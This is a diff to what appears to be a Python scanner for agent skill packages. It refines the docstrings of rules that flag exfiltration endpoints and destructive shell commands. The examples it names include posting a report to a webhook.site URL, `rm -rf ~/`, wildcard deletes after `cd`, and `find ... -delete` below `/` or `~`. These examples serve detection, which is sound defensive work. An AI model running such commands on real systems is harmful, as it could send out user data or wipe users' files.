@@ -350,7 +350,8 @@ def exfiltration_endpoint(ctx: SkillContext) -> Iterator[Finding]:
     command of the page sends to it.
     Private and loopback addresses (`127.0.0.1`, `192.168.…`) are not reported. A request
     whose every word is literal text (`curl -X POST http://198.51.100.7/score -F 'score=300'`
-    in a game write-up) sends nothing read on the machine: a warning, as a GET is.
+    in a game write-up) sends nothing read on the machine: a warning, as a GET is; so does a
+    port probe (`nc -zv 8.8.8.8 53`) with nothing fed into it.
 
     Fails: `requests.post("https://webhook.site/0000-…", json=report)`.
     Passes: `requests.post("https://api.example.com/v1/reports", json=report)`.
@@ -439,7 +440,9 @@ def destructive_command(ctx: SkillContext) -> Iterator[Finding]:
     (`rm -rf ./build`) are fine. A relative path is read from the folder a `cd DIR &&` moved
     to (`cd /tmp/work && rm -rf *` empties a scratch folder, `cd ~/projects && rm -rf ./*` is
     a warning); after `cd DIR;`, or a `cd` to a folder the text does not spell out, a bare
-    `*` stays an error.
+    `*` stays an error. `find ROOT ... -delete` is judged by what it matches: below `/` or
+    `~` with no name test, an error; narrowed by `-name "*.log"` (or `-path`, `-regex`), or
+    below another folder outside the skill, a warning.
 
     Fails: `rm -rf ~/` in a cleanup script.
     Passes: `rm -rf ./build` or `rm -rf "$TMPDIR/skill-cache"`.
